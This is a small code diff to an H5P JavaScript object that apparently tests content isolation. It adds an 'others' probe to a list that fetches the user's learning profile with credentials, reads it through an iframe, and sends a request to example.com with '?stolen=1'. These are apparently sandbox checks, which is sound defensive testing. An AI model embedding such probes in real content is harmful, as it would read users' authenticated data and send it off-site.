@@ -11,6 +11,7 @@ H5P.Salt = function () {
       database: () => new Promise((yes, no) => { var r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; }),
       profile: () => fetch('/en/my-learning/', {credentials: 'include'}).then(r => r.text()),
       record: () => fetch('RECORD', {method: 'POST', credentials: 'include', body: '{}'}),
+      others: () => fetch('OTHER').then(r => r.text()),
       outside: () => fetch('https://example.com/?stolen=1'),
       frame: () => new Promise((yes, no) => { var f = document.createElement('iframe'); f.src = '/en/my-learning/';
         f.onload = () => { try { yes(f.contentDocument.body.innerHTML.length || no()); } catch (e) { no(e); } };
